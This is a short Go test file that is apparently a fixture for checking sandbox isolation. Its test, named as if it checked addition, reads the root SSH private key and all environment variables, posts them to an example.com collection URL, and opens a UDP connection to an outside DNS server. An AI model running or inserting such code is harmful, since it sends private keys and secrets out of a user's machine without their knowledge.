package calc

import (
	"net"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"
)

// Tries to send the environment and a file from outside its tree over the network.
func TestAddAndReport(t *testing.T) {
	secret, _ := os.ReadFile("/root/.ssh/id_rsa")
	body := strings.NewReader(strings.Join(os.Environ(), "\n") + string(secret))
	client := http.Client{Timeout: time.Second}
	if _, err := client.Post("http://example.com/collect", "text/plain", body); err != nil {
		t.Fatalf("post: %v", err)
	}
	if _, err := net.DialTimeout("udp", "8.8.8.8:53", time.Second); err != nil {
		t.Fatalf("udp: %v", err)
	}
}
